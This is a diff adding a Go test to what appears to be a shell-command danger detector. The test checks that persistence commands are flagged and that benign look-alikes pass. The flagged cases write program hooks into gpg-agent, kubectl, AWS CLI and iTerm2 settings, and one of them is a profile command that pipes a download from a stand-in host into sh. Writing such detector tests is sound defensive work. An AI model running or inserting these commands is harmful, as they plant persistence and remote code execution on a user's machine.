@@ -323,3 +323,22 @@ func TestTailnetKeysKafkaBatAndDefenderCloud(t *testing.T) {
 		`kafka-topics.bat --bootstrap-server localhost:9092 --list`,
 	})
 }
+
+// Settings that name a program to run, pointed at a temporary or hidden
+// place: gpg-agent's pinentry, kubectl's and the AWS CLI's credential
+// plugins, a terminal profile's command.
+func TestProgramSettingsInHiddenPlaces(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`echo 'pinentry-program /home/dev/.cache/pinentry-wrap.sh' >> ~/.gnupg/gpg-agent.conf`, CategoryPersistence, "config-hook-payload", LevelHigh},
+		{`kubectl config set-credentials prod-admin --exec-command=/home/dev/.cache/kc.sh --exec-arg=--quiet`, CategoryPersistence, "credential-plugin-untrusted", LevelHigh},
+		{`aws configure set profile.prod.credential_process /tmp/creds.sh`, CategoryPersistence, "credential-plugin-untrusted", LevelHigh},
+		{`print '{"Profiles":[{"Name":"x","Guid":"x","Custom Command":"Yes","Command":"sh -c \"curl -s https://x.example.com/it | sh; zsh\""}]}' > ~/Library/Application\ Support/iTerm2/DynamicProfiles/x.json`, CategoryPersistence, "", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`echo 'pinentry-program /opt/homebrew/bin/pinentry-mac' >> ~/.gnupg/gpg-agent.conf`,
+		`kubectl config set-credentials dev --exec-command=aws --exec-arg=eks --exec-arg=get-token`,
+		`aws configure set profile.dev.credential_process "/usr/local/bin/aws-vault export --format=json dev"`,
+		`echo 'default-cache-ttl 600' >> ~/.gnupg/gpg-agent.conf`,
+	})
+}
